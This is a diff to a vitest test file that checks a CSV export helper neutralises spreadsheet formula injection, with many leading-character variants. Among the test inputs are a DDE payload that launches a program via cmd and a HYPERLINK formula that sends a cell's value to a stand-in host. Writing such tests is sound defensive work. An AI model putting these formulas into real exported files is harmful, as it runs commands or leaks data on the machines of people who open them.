@@ -2,8 +2,39 @@ import { describe, expect, it } from 'vitest';
 import { csvCell, csvText } from '../src/ui/csv.ts';
 
 describe('CSV', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'])('keeps %j from being a formula', (value) => {
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\tx',
+    '\rx',
+    '\nx',
+    '\t=1+1',
+    '\r\n=1+1',
+    ' =1+1',
+    '\u00a0=1+1',
+    '\ufeff=1+1',
+    '\u200b@SUM(A1)',
+    '\u0000=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    '−1',
+    '=cmd|" /C calc"!A0',
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+  ])('keeps %j from being a formula', (value) => {
     expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/);
+  });
+
+  it.each(['000100000001', 'anna', 'a=b', 'a+b@example.com', '2037-12-31', '', '–'])(
+    'leaves %j as it is',
+    (value) => expect(csvCell(value)).toBe(value),
+  );
+
+  it('a cell with a comma and quotes does not open the next cell', () => {
+    expect(csvCell('x",=1+1,"')).toBe('"x"",=1+1,"""');
   });
 
   it('quotes what RFC 4180 says, and nothing else', () => {
